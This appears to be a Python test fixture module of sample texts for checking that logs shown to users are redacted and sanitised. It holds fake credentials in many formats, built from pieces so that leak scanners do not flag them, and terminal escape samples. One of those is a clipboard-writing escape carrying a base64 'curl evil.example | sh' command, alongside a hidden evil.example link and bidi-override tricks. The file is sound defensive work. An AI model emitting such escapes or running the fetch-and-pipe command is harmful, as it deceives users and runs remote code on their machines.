"""Texts for tests of what is shown to users.

Some texts have secrets or control characters, and must not be shown unchanged. The other texts are ordinary.
Each secret is put together from pieces, so that scanners for leaked secrets do not report this file.
"""

import base64
from collections.abc import Iterator
from typing import Any, NamedTuple
from urllib.parse import quote

import pytest


class Sample(NamedTuple):
    """A text with a secret or a control character in it."""

    name: str
    text: str
    hidden: tuple[str, ...]
    """The parts of the text that must never be shown."""


WORD = "Kq7" + "Zt2mVw9Xc4Rb6" + "Np1Ls8Dy3Gf5Hj0" + "Aa"
HEX = "9f3c" * 10
PASSWORD = "hun" + "ter2-xyz"
KEY_LINES = [
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7" + "VJTUt9Us8cKj",
    "Q" * 30 + WORD[:18],
    "a1B2==",
]
BEGIN, END = ("-----" + edge + " PRIVATE" + " KEY-----" for edge in ("BEGIN", "END"))
PEM = "\n".join([BEGIN, *KEY_LINES, END])
JWT = ".".join(
    base64.urlsafe_b64encode(part).decode().strip("=")
    for part in (b'{"alg":"RS256"}', b'{"sub":"x"}', b"sign" * 8)
)


def _secret(name: str, text: str, *hidden: str) -> Sample:
    return Sample(name, text, hidden or (WORD,))


SECRETS: tuple[Sample, ...] = (
    # Secrets that are found by their own form, without a name such as password beside them.
    _secret("github", f"cannot push with ghp{'_'}{WORD}{WORD[:3]}"),
    _secret("github-fine-grained", f"denied: github{'_'}pat_{WORD}_{WORD}"),
    _secret("gitlab", f"remote: glpat{'-'}{WORD} is revoked"),
    _secret("slack", f"posting as xoxb{'-'}1234567890-{WORD}"),
    _secret("slack-webhook", f"POST https://hooks.slack.com/{'services'}/T0AB/B0CD/{WORD} failed"),
    _secret("aws-pair", f"AKIA{'QZ7T' * 4}:{WORD}+/{WORD[:5]}", WORD, "QZ7TQZ7T"),
    _secret("google-api-key", f"AIza{'Sy'}{WORD} is not allowed"),
    _secret("google-oauth", f"refreshing ya29{'.'}a0{WORD}"),
    _secret("azure-client-secret", f"login with abc8Q{'~'}{WORD}abc"),
    _secret("npm", f"npm ERR! npm{'_'}{WORD}{WORD[:3]}"),
    _secret("pypi", f"uploading with pypi{'-'}AgEI{WORD}{WORD}"),
    _secret("hugging-face", f"401 for hf{'_'}{WORD}"),
    _secret("openai", f"Incorrect API key provided: sk{'-'}proj-{WORD}."),
    _secret("anthropic", f"x: sk{'-'}ant-api03-{WORD}-{WORD}"),
    _secret("wandb", f"wandb: ERROR API key {HEX} is wrong", HEX),
    _secret("wandb-new", f"wandb{'_'}v1_{WORD}_{WORD}"),
    _secret("vault", f"hvs{'.'}{WORD}"),
    _secret("databricks", f"dapi{HEX[:32]}", HEX[:32]),
    _secret("stripe", f"sk{'_'}live_{WORD}"),
    _secret("sendgrid", f"SG{'.'}{WORD}.{WORD}"),
    _secret("telegram", f"bot 123456789:AA{WORD}"),
    _secret("jwt", f"the token {JWT} was refused", JWT.split(".")[1], JWT.split(".")[2]),
    _secret("private-key", f"loaded {PEM}\nand more", *KEY_LINES),
    _secret("private-key-in-json", '{"private_key": "' + PEM.replace("\n", "\\n") + '\\n"}', *KEY_LINES),
    _secret("private-key-cut-off", PEM.rpartition("\n")[0], *KEY_LINES[:2]),
    _secret("private-key-without-its-beginning", PEM.partition("\n")[2], *KEY_LINES),
    _secret("password-hash", f"jane:$2b$12${WORD}"),
    # Secrets in addresses.
    _secret("url", f"GET https://jane:{PASSWORD}@models.example.org/v1", PASSWORD),
    _secret("url-with-an-at-sign", f"postgresql+psycopg://jane:p@{PASSWORD}@db:5432/runs", PASSWORD),
    _secret("url-with-a-slash", f"redis://:p/{PASSWORD}@cache:6379/0", PASSWORD),
    _secret("url-with-a-token", f"fatal: https://{WORD}@github.com/team/repo.git"),
    _secret("url-in-json", f'{{"url": "https:\\/\\/jane:{PASSWORD}@host\\/x"}}', PASSWORD),
    _secret("url-percent-encoded", quote(f"https://jane:{PASSWORD}@host/x", safe=""), PASSWORD),
    _secret("mysql", f"jane:{PASSWORD}@tcp(db:3306)/runs", PASSWORD),
    _secret("curl", f"curl -u jane:{PASSWORD} https://host", PASSWORD),
    _secret("netrc", f"machine host login jane password {PASSWORD}", PASSWORD),
    _secret("azure-sas", f"https://x.blob.core.windows.net/c?sv=2022-11-02&sr=c&sig={WORD}%3D&se=2027"),
    _secret("aws-presigned", f"https://b.s3.amazonaws.com/o?X-Amz-Expires=60&X-Amz-Signature={HEX}", HEX),
    _secret("query", f"https://host/x?step=3&access_token={WORD}#top"),
    _secret("query-percent-encoded", f"next=%2Fx%3Faccess_token%3D{WORD}%26a%3D1"),
    _secret("query-encoded-twice", quote(quote(f'{{"password": "{PASSWORD}"}}')), PASSWORD),
    # Secrets in headers.
    _secret("bearer", f"Authorization: Bearer {WORD}"),
    _secret("basic-in-a-dict", f"{{'Authorization': 'Basic {WORD}=', 'Accept': '*/*'}}"),
    _secret("aws-signature", f"Authorization: AWS4-HMAC-SHA256 Credential=x, Signature={HEX}", HEX),
    _secret("header-pair", f"[(b'accept', b'*/*'), (b'x-api-key', b'{WORD}')]"),
    _secret("header-of-curl", f"curl -H 'PRIVATE-TOKEN: {WORD}' https://host"),
    _secret("cookie", f"Cookie: theme=dark; sessionid={WORD}; csrftoken={PASSWORD}", WORD, PASSWORD),
    _secret("set-cookie-in-json", f'{{"Set-Cookie": "sid={WORD}; Path=/; HttpOnly"}}'),
    # Secrets that are found by a name such as password beside them.
    _secret("env", f"HF_TOKEN={WORD} python train.py"),
    _secret("env-short", f"export MLFLOW_TRACKING_PASSWORD={PASSWORD[:7]}", PASSWORD[:7]),
    _secret("env-number", "PGPASSWORD=84210077", "84210077"),
    _secret("environ", f"environ({{'WANDB_API_KEY': '{WORD}', 'HOME': '/'}})"),
    _secret("item", f'os.environ["AWS_SECRET_ACCESS_KEY"] = "{WORD}"'),
    _secret("keyword", f"login(token='{WORD}', add_to_git=False)"),
    _secret("json", f'{{"apiKey":"{WORD}","model":"x"}}'),
    _secret("json-in-json", f'{{"body": "{{\\"client_secret\\": \\"{WORD}\\"}}"}}'),
    _secret("json-on-the-next-line", f'{{"secretAccessKey":\n  "{WORD}"}}'),
    _secret("json-cut-off", f'{{"password": "{PASSWORD}', PASSWORD),
    _secret("json-list", f'{{"api_keys": ["{WORD}", "{PASSWORD}"]}}', WORD, PASSWORD),
    _secret("json-with-a-quote", f'{{"password": "a\\"{PASSWORD}", "b": 1}}', PASSWORD),
    _secret("yaml", f"smtp:\n  password: correct horse {PASSWORD}\n  port: 25", "correct horse", PASSWORD),
    _secret("yaml-block", f"auth:\n  password: |\n    one {PASSWORD}\n    two\n  port: 25", PASSWORD, "two"),
    _secret("yaml-secret", f"data:\n  wandb-api-key: {WORD}=="),
    _secret("ini", f"aws_secret_access_key = {WORD}"),
    _secret("npmrc", f"//registry.npmjs.org/:_authToken={WORD}"),
    _secret("azure-connection", f"DefaultEndpointsProtocol=https;AccountName=x;AccountKey={WORD}==;Suffix=y"),
    _secret("option", f"mlflow server --api-key {WORD} --port 5000"),
    _secret("option-in-a-list", f"['python', 'x.py', '--hub-token', '{WORD}']"),
    _secret("xml", f"<user>x</user><password>{PASSWORD}</password>", PASSWORD),
    _secret("prose", f"2026-11-22 18:00 ERROR login failed, password: {PASSWORD}, user: jane", PASSWORD),
    _secret("assertion", f"AssertionError: assert api_key == '{WORD}'"),
    _secret("fields", f"env:\n- name: HF_TOKEN\n  value: {WORD}\n- name: HOME\n  value: /"),
    _secret("fields-in-json", f'{{"name": "WANDB_API_KEY", "value": "{WORD}"}}'),
    _secret("value-of-an-object", f"hubToken:\n  value: {WORD}"),
    _secret("yaml-tag", f"token: !vault {WORD}"),
    _secret("docker", f'{{"auths": {{"registry": {{"auth": "{WORD}=="}}}}}}'),
    _secret("name-and-space", f"ENV HF_TOKEN {WORD}"),
    _secret("prose-with-is", f"the password is {PASSWORD}, not more", PASSWORD),
    _secret("mysql-option", f"mysqldump -u root -p{PASSWORD} runs", PASSWORD),
    _secret("html", f"&quot;password&quot;:&quot;{PASSWORD}&quot;", PASSWORD),
    _secret("any-key-of-an-environment", f"MAPS_KEY={WORD}"),
    # Secrets with invisible characters in them.
    _secret("torn-by-colours", f"HF_TO\x1b[1mKEN\x1b[0m={WORD[:8]}\x1b[31m{WORD[8:]}", WORD[:8], WORD[8:]),
    _secret("torn-by-a-null", f"ghp{'_'}{WORD[:12]}\x00{WORD[12:]}", WORD[:12], WORD[12:]),
    _secret("torn-by-a-zero-width-space", f"ghp{'_'}{WORD[:12]}\u200b{WORD[12:]}", WORD[:12], WORD[12:]),
)

CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
ESCAPES: tuple[Sample, ...] = (
    Sample("colour", "a \x1b[31mred\x1b[0m word", ("\x1b",)),
    Sample("clear-the-screen", "a\x1b[2J\x1b[H b", ("\x1b",)),
    Sample("title", "a\x1b]0;root@prod\x07b", ("\x1b", "\x07")),
    Sample("clipboard", f"a\x1b]52;c;{CLIPBOARD}\x07b", ("\x1b", "\x07")),
    Sample("clipboard-by-a-string-terminator", f"a\x1b]52;c;{CLIPBOARD}\x1b\\b", ("\x1b",)),
    Sample("clipboard-in-eight-bits", f"a\x9d52;c;{CLIPBOARD}\x9cb", ("\x9d", "\x9c")),
    Sample("clipboard-without-an-end", f"a\x1b]52;c;{CLIPBOARD}", ("\x1b",)),
    Sample("link", "a\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\ b", ("\x1b",)),
    Sample("device-control", "a\x1bP$q q\x1b\\b", ("\x1b",)),
    Sample("colour-in-eight-bits", "a\x9b31mb", ("\x9b",)),
    Sample("answerback", "a\x05b", ("\x05",)),
    Sample("bell-and-backspace", "a\x07b\x08\x08c", ("\x07", "\x08")),
    Sample("carriage-return", "Failed\rSucceeded", ("\r",)),
    Sample("form-feed", "a\x0cb\x0bc", ("\x0c", "\x0b")),
    Sample("null-and-delete", "a\x00b\x7fc", ("\x00", "\x7f")),
    Sample("next-line", "a\x85b\u2028c\u2029d", ("\x85", "\u2028", "\u2029")),
    Sample("bidi-override", "access \u202elevel\u202c", ("\u202e", "\u202c")),
    Sample("bidi-isolate", "if \u2066admin\u2069 \u200f:", ("\u2066", "\u2069", "\u200f")),
    Sample("tags", "go\U000e0041\U000e0042 on", ("\U000e0041", "\U000e0042")),
    Sample("zero-width", "a\u200b\ufeffb\u2060c", ("\u200b", "\ufeff", "\u2060")),
    Sample("shift-out", "a\x0eb\x0fc", ("\x0e", "\x0f")),
    Sample("charset", "a\x1b(0q\x1b(B", ("\x1b",)),
)


def texts_of(value: Any) -> Iterator[str]:
    """Yield every text in a JSON value, including the names of fields."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, item in value.items():
            yield from (name, *texts_of(item))
    elif isinstance(value, list | tuple):
        for item in value:
            yield from texts_of(item)


OF_SECRETS = pytest.mark.parametrize("sample", SECRETS, ids=lambda sample: sample.name)
OF_ESCAPES = pytest.mark.parametrize("sample", ESCAPES, ids=lambda sample: sample.name)
OF_BOTH = pytest.mark.parametrize("sample", [*SECRETS, *ESCAPES], ids=lambda sample: sample.name)

DIGEST = "0a1b2c3d" * 8
ORDINARY: tuple[str, ...] = (
    "step 3 of 12: reward 0.41, 2100 tokens/s, 9.8 s",
    "2026-11-22 18:00:00,000 INFO rft_trainer.loop: 3200 completion tokens, basic checks done",
    "https://models.example.org/Qwen/Qwen2.5-7B-Instruct is read",
    'File "/app/rft_trainer/loop.py", line 12, in train',
    "max_tokens=512",
    "maxTokens: 512",
    "sampling.maxTokens: 64 is above training.batchSizeTokens: 32",
    '{"maxTokens": 64, "totalTokens": 1024, "stopTokens": [1, 2]}',
    "tokens/s: 1234",
    "token ids: [1, 2, 3]",
    "token_ids=[50256, 198]",
    "tokens: 1,234,567",
    "eos_token: <|im_end|>, pad_token='<pad>', bos_token=None",
    "tokenizer: Qwen2Tokenizer, padding_side=left",
    "seconds_per_token=0.02, time per token: 0.02 s",
    "num_tokens=2048 num_tokens_from_env=0",
    "spec.training.lossAggregation: 'word' is not one of token, sequence, maxTokens",
    "Input should be 'token', 'sequence' or 'maxTokens'",
    f"image rft@sha256:{DIGEST}",
    f"sha256:{DIGEST}",
    f"the rows have changed: {DIGEST} is not {DIGEST[::-1]}",
    f"revision {HEX} of Qwen/Qwen2.5-0.5B-Instruct",
    f"revision: {HEX}",
    f"/root/.cache/huggingface/hub/models--Qwen--Qwen2.5/snapshots/{HEX}/config.json",
    f"commit {HEX} is the newest",
    "uid 5b0d2ac7-2f3b-4c3a-9f0f-6a4b7c1f2d3e",
    'secret "hub-token" not found',
    'MountVolume.SetUp failed for volume "hub-token" : secret "hub-token" not found',
    "couldn't find key token in Secret team/hub",
    "references non-existent secret key: token",
    "spec.model.secretRef.key: is required",
    "spec.tracking.wandb.secretRef: is missing; give it name and key",
    "spec.template.env[0]: has both value and secretRef; remove one of them",
    "spec.template.imagePullSecrets[0].name: regcred",
    "Unable to retrieve some image pull secrets (regcred); attempting to pull the image may not succeed.",
    "secretName: wandb, secretKeyRef: {name: wandb, key: api}",
    "the tokenSet metric compares words",
    "serviceAccountName: trainer; no token of it is mounted",
    "token file: /var/run/secrets/rft.dev/token",
    "tokenFile: /var/run/secrets/rft.dev/ingest/token",
    "password: is required by the registry",
    "token: expected a word",
    "the token is not for the audience rft.dev/ingest",
    "0/3 nodes are available: 1 Insufficient nvidia.com/gpu, 2 node(s) had untolerated taint {key: value}.",
    "couldn't assign flavors to pod set main: insufficient unused quota for cpu in flavor cpu, 1 more needed",
    "Preempted to accommodate a workload (UID: 5b0d2ac7-2f3b, JobUID: 6a4b7c1f2d3e) due to prioritization",
    'failed calling webhook "mjob.kb.io": Post "https://kueue-webhook.kueue.svc:443/mutate?timeout=10s": EOF',
    'ImagePullBackOff: Back-off pulling image "registry.example.org:5000/team/rft:v1"',
    "http://localhost:8000/v1/completions answered 503",
    "hf://datasets/team/rows@main/train.jsonl, s3://bucket/rows/train.jsonl",
    "git+ssh://git@github.com/team/graders.git",
    "hf_transfer and hf_xet are not installed",
    "the basic functions of a bearer of risk-adjusted-returns and disk-usage-limits",
    "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has 79.1 GiB in all",
    "KeyError: 'answer'",
    "ValueError: row 12: 'messages' must be a list, not {'role': 'user', 'content': 'What is 3 + 4?'}",
    "grader right: TypeError: grade() missing 1 required positional argument: 'item'",
    "signature: grade(sample, item) -> float; return a number from 0 to 1",
    "learningRate=1e-4, loraRank=8, klBeta=0.001, temperature=0.7, topP=1.0",
    "mean |log-prob difference| 0.04; mismatchKl: 0.0021; clipFraction: 0.12",
    "held-out reward: 0.412 → 0.587 (+0.175, 95 % interval +0.101 to +0.249)",
    "/runs/team/sums/checkpoints/step-000042/adapter",
    "the answer is 50 % of 12 and 100%",
    "next_token=eyes, the next token: 42",
    "key: answer, primary_key: id, author: jane, authors=jane",
    "Kueue tries again at 2026-11-22T18:00:00Z. The child Job is number 3 in this LocalQueue.",
    "password is wrong; credentials are read from the environment",
    "api_key=None, password='', token=\"\", secret=${SECRET}, HF_TOKEN=$HF_TOKEN",
)
